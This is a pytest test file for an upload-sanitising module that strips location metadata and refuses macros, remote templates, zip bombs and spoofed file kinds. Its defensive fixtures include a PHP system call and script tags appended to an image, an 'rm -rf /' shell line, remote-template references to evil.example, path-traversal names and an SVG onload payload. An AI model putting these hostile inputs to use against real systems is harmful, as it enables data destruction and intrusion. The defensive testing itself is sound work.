"""What is in a file beside what people look at does not come in; what would do harm is refused in one sentence."""

import io
import zipfile

import pytest

from huiying.foundation.files import errors
from huiying.foundation.files.apart import clean_apart
from huiying.foundation.files.cleaning import clean
from huiying.foundation.files.errors import (
    FileDamaged,
    FileHasMacros,
    FileHasPassword,
    FileIsHeic,
    FileKindRefused,
    FileTooLarge,
    PictureTooLarge,
)
from huiying.foundation.files.kinds import ACCEPT, KINDS, kind_of
from huiying.foundation.files.names import LONGEST, plain_name
from tests.foundation.files import making


def cleaned(data, name):
    return clean(data, kind_of(data, name))


def opened(data):
    from PIL import Image

    return Image.open(io.BytesIO(data))


def test_a_photo_loses_its_place_and_camera_and_stands_upright():
    data = making.photo((640, 480), comment=b"at home in Liuhe")
    assert opened(data).getexif().get_ifd(0x8825)
    found = cleaned(data, "IMG_2026.JPG")
    picture = opened(found.data)
    assert picture.size == (480, 640)
    assert not picture.getexif()
    assert not picture.getexif().get_ifd(0x8825)
    assert "comment" not in picture.info
    assert b"LiuxiPhone" not in found.data
    assert b"Liuhe" not in found.data
    assert found.kind.media_type == "image/jpeg"


def test_a_photo_gets_a_small_picture_to_show():
    small = opened(cleaned(making.photo((2000, 1000), orientation=1), "a.jpg").thumbnail)
    assert (small.format, small.size) == ("WEBP", (320, 160))


@pytest.mark.parametrize("form", ["PNG", "WEBP", "AVIF", "BMP"])
def test_other_pictures_become_png_or_jpeg_without_what_stood_beside_them(form):
    found = cleaned(making.photo(form=form, gps=form != "BMP"), f"a.{form.lower()}")
    picture = opened(found.data)
    assert picture.format == ("PNG" if form == "PNG" else "JPEG")
    assert found.kind.ending == ("png" if form == "PNG" else "jpg")
    assert not picture.getexif()


def test_what_is_transparent_stays_so():
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (1, 2, 3, 0)).save(out, "WEBP", lossless=True)
    assert opened(cleaned(out.getvalue(), "sign.webp").data).mode == "RGBA"


def test_a_picture_that_says_jpg_and_is_a_png_is_taken_as_what_it_is():
    assert cleaned(making.photo(form="PNG"), "mmexport1.jpg").kind.ending == "png"


@pytest.mark.parametrize(("size", "kept"), [((4032, 3024), (4032, 3024)), ((8000, 6000), (4000, 3000))])
def test_a_large_photo_keeps_how_it_was_held_and_nothing_else(size, kept):
    found = cleaned(making.photo(size, quality=30, comment=b"at home in Liuhe"), "a.jpg")
    picture = opened(found.data)
    assert picture.size == kept
    assert dict(picture.getexif()) == {0x0112: 6}
    assert not picture.getexif().get_ifd(0x8825)
    assert b"LiuxiPhone" not in found.data
    assert b"Liuhe" not in found.data
    assert dict(opened(found.thumbnail).getexif()) == {0x0112: 6}


@pytest.mark.parametrize("form", ["PNG", "JPEG"])
def test_a_long_screenshot_stays_as_wide_as_it_is(form):
    found = cleaned(making.photo((1080, 12_000), form, gps=False), f"a.{form.lower()}")
    assert opened(found.data).size == (1080, 12_000)


def test_a_pixel_bomb_is_refused_before_it_is_decoded():
    bomb = making.pixel_bomb()
    assert len(bomb) < 1_000_000
    with pytest.raises(PictureTooLarge):
        cleaned(bomb, "a.png")


def test_a_picture_with_a_script_behind_it_keeps_the_picture_alone():
    found = cleaned(making.photo() + b"<script>alert(1)</script><?php system('id') ?>", "a.jpg")
    assert b"script" not in found.data
    assert b"php" not in found.data


def test_half_a_picture_is_damaged():
    whole = making.photo((1500, 1500), quality=95)
    with pytest.raises(FileDamaged):
        cleaned(whole[: len(whole) // 2], "a.jpg")


def test_a_paper_loses_what_runs_opens_sends_or_hides_something():
    import pikepdf

    evil = making.pdf(evil=True, pages=2)
    assert b"/JavaScript" in pikepdf_flat(evil)
    found = cleaned(evil, "a.pdf").data
    flat = pikepdf_flat(found)
    for word in (b"JavaScript", b"/JS", b"Launch", b"OpenAction", b"/AA", b"Embedded", b"FileAttachment", b"evil"):
        assert word not in flat, word
    assert "王小明".encode("utf-16-be") not in flat
    with pikepdf.open(io.BytesIO(found)) as paper:
        assert len(paper.pages) == 2
        assert len(paper.attachments) == 0
        assert b"example.org" in flat


def pikepdf_flat(data):
    """The same paper with nothing packed, so that every word in it can be looked for."""
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as paper:
        paper.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def test_a_paper_with_a_password_is_refused_with_its_own_sentence():
    with pytest.raises(FileHasPassword):
        cleaned(making.pdf(password="secret"), "a.pdf")


@pytest.mark.parametrize("data", [b"%PDF-1.7\nnothing more", b"%PDF-1.4\n" + b"\xff" * 5000])
def test_what_only_begins_like_a_paper_is_damaged(data):
    with pytest.raises(FileDamaged):
        cleaned(data, "a.pdf")


@pytest.mark.parametrize(("make", "name"), [(making.docx, "a.docx"), (making.xlsx, "a.xlsx"), (making.odt, "a.odt")])
def test_documents_are_packed_anew(make, name):
    data = make()
    found = cleaned(b"" + data + b"#!/bin/sh\nrm -rf /", name).data
    assert b"rm -rf" not in found
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(io.BytesIO(found)) as new:
        assert {n: old.read(n) for n in old.namelist()} == {n: new.read(n) for n in new.namelist()}


REMOTE = (
    b'<Relationships xmlns="x"><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = (
    b'<Relationships xmlns="x"><Relationship Id="r1" Type="http://x/relationships/hyperlink" '
    b'Target="https://example.org" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"macro"},
        {"word/activeX/activeX1.bin": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/_rels/settings.xml.rels": REMOTE},
        {"word/_rels/settings.xml.rels": REMOTE.replace(b"External", b"Externa&#108;")},
        {"word/_rels/settings.xml.rels": REMOTE.replace(b"r1", b">")},
        {"word/_rels/settings.xml.rels": REMOTE.replace(b"Id=", b'x:Type="x/hyperlink" Id=')},
        {"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"},
    ],
    ids=["vba", "activeX", "object", "remote template", "spelled", "behind a bracket", "as a link", "macro enabled"],
)
def test_a_document_that_would_run_or_fetch_something_is_refused(parts):
    with pytest.raises(FileHasMacros):
        cleaned(making.docx(**parts), "a.docx")


@pytest.mark.parametrize("encoding", ["utf-16", "cp037"])
def test_a_document_in_letters_that_hide_something_is_damaged(encoding):
    hidden = (f'<?xml version="1.0" encoding="{encoding}"?>' + REMOTE.decode()).encode(encoding)
    named = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + LINK
    for part in (hidden, named):
        with pytest.raises(FileDamaged):
            cleaned(making.docx(**{"word/_rels/settings.xml.rels": part}), "a.docx")


@pytest.mark.parametrize(
    "part",
    [
        b'<a xlink:href="ftp://evil.example/"/>',
        b"<a xlink:href = '../../etc/passwd'/>",
        b'<draw:image xlink:type="simple" xlink:href="https://evil.example/seen.png"/>',
    ],
)
def test_a_text_that_loads_something_from_elsewhere_is_refused(part):
    with pytest.raises(FileHasMacros):
        cleaned(making.with_parts(making.odt(), {"content.xml": part}), "a.odt")


def test_a_text_may_hold_links_to_click_and_pictures_of_its_own():
    part = b'<x><draw:a xlink:href="https://example.org/"/><draw:image xlink:href="Pictures/1.png"/></x>'
    assert cleaned(making.with_parts(making.odt(), {"content.xml": part}), "a.odt").data


def test_a_document_may_begin_with_a_mark_of_utf8_and_name_it():
    part = b"\xef\xbb\xbf" + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' + LINK
    assert cleaned(making.docx(**{"word/_rels/more.xml.rels": part}), "a.docx").data


def test_a_document_may_hold_links_to_click():
    assert cleaned(making.docx(**{"word/_rels/more.xml.rels": LINK}), "a.docx").data


def test_a_zip_bomb_is_refused_by_what_it_says_and_by_what_it_is():
    with pytest.raises(FileTooLarge):
        cleaned(making.zip_bomb(), "a.docx")


def test_a_zip_that_lies_about_its_size_is_damaged():
    bomb = bytearray(making.with_parts(making.docx(), {"word/x.xml": b"\0" * 1_000_000}))
    place = bomb.rfind(b"word/x.xml") - 46 + 24
    bomb[place : place + 4] = (10).to_bytes(4, "little")
    with pytest.raises(FileDamaged):
        cleaned(bytes(bomb), "a.docx")


def test_a_billion_laughs_is_damaged():
    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><lolz>&lol;</lolz>'
    with pytest.raises(FileDamaged):
        cleaned(making.docx(**{"word/document.xml": laughs}), "a.docx")


def test_sound_and_film_lose_titles_and_places():
    assert b"Liuhe" not in cleaned(making.mp3(), "a.mp3").data
    assert cleaned(making.mp3(), "a.mp3").data == making.mp3(tagged=False)
    told = cleaned(making.wav((b"LIST", b"INFOICMTat home in Liuhe")), "a.wav").data
    assert told == making.wav()
    film = cleaned(making.film(), "a.mp4").data
    assert b"+28.19" not in film
    assert b"LiuxiPhone" not in film
    assert len(film) == len(making.film())
    assert b"picture" in film


@pytest.mark.parametrize(
    "data", [b"ID3\x04\0\0\0\0\0\x05", b"RIFF\x04\0\0\0WAVE", making.film()[:-500], b"\0\0\0\x10ftypisom"]
)
def test_sound_and_film_that_stop_short_are_damaged(data):
    name = {b"ID": "a.mp3", b"RI": "a.wav"}.get(data[:2], "a.mp4")
    with pytest.raises(FileDamaged):
        cleaned(data, name)


def test_chinese_text_is_kept_in_one_encoding():
    assert cleaned("路灯不亮".encode("gb18030"), "说明.txt").data.decode() == "路灯不亮"
    with pytest.raises(FileDamaged):
        cleaned(b"\xff\xfe\xff" * 9, "a.txt")


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"MZ\x90\0" + b"\0" * 300, "setup.exe"),
        (b"MZ\x90\0" + b"\0" * 300, "photo.jpg"),
        (b"\x7fELF" + b"\0" * 300, "note.txt"),
        (b"<html><script>alert(1)</script>", "page.html"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "a.svg"),
        (b"GIF89a" + b"\0" * 60, "a.gif"),
        (making.pdf(), "a.jpg"),
        (making.docx(), "a.pdf"),
        (making.docx(), "a.zip"),
        (making.docx(), "a.docm"),
        (b"hello", "noending"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_not_on_the_list_or_not_what_it_says_is_refused(data, name):
    with pytest.raises(FileKindRefused):
        kind_of(data, name)


def test_a_table_that_says_it_is_a_word_document_is_refused():
    with pytest.raises(FileKindRefused):
        cleaned(making.xlsx(), "a.docx")


def test_an_iphones_own_format_gets_its_own_sentence():
    with pytest.raises(FileIsHeic):
        kind_of(b"\0\0\0\x18ftypheic\0\0\0\0", "IMG_1.HEIC")


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("现场照片.JPG", "现场照片.jpg"),
        ("../../etc/passwd.jpg", "passwd.jpg"),
        ("C:\\Users\\王\\桌面\\a.jpg", "a.jpg"),
        ("photo\u202egpj.exe.jpg", "photogpj.exe.jpg"),
        ("a\0b\r\nc.jpg", "abc.jpg"),
        ("x" * 1000 + ".jpg", "x" * (LONGEST - 4) + ".jpg"),
        ("....jpg", "file.jpg"),
        ("", "file.jpg"),
        ('a"b<c>.jpg', "a b c.jpg"),
        (".htaccess.jpg", "htaccess.jpg"),
    ],
)
def test_a_name_is_one_plain_line(name, kept):
    assert plain_name(name, "jpg") == kept


def test_cleaning_happens_in_a_process_that_has_none_of_our_secrets(monkeypatch):
    monkeypatch.setenv("HUIYING_MAIL_PASSWORD_FILE", "/secret")
    found = clean_apart(making.photo(), KINDS["jpg"])
    assert opened(found.data).size == (480, 640)
    assert opened(found.thumbnail).format == "WEBP"
    with pytest.raises(PictureTooLarge) as refused:
        clean_apart(making.pixel_bomb(), KINDS["png"])
    assert "50" in refused.value.say("en")


def test_a_process_that_dies_means_a_damaged_file(monkeypatch):
    from huiying.foundation.files import apart

    monkeypatch.setattr(apart, "TIMEOUT_SECONDS", 0.001)
    with pytest.raises(FileDamaged):
        clean_apart(making.photo(), KINDS["jpg"])
    monkeypatch.setattr(apart, "TIMEOUT_SECONDS", 30)
    monkeypatch.setattr(apart.sys, "executable", "/bin/false")
    with pytest.raises(FileDamaged):
        clean_apart(making.photo(), KINDS["jpg"])


def test_who_comes_while_many_files_wait_is_asked_to_come_again(monkeypatch):
    from threading import Event, Semaphore, Thread

    from huiying.foundation.files import apart

    there, go_on, kind = Semaphore(0), Event(), KINDS["jpg"]

    def slow(*_what):
        there.release()
        return go_on.wait(10)

    monkeypatch.setattr(apart, "_cleaned", slow)
    others = [Thread(target=clean_apart, args=(b"x", kind)) for _ in range(apart.MOST_IN_LINE)]
    for other in others:
        other.start()
        there.acquire()
    with pytest.raises(errors.FileBusy):
        clean_apart(b"x", kind)
    go_on.set()
    for other in others:
        other.join()
    assert clean_apart(b"x", kind)


def test_every_refusal_says_what_to_do_in_both_languages():
    for one in errors.REFUSALS.values():
        data = {"limit_mb": 10, "limit": 10, "limit_millions": 50}
        assert one(**data).say("zh-hans").endswith("。")
        assert one(**data).say("en").endswith(".")
    assert all(f".{ending}" in ACCEPT for ending in KINDS)
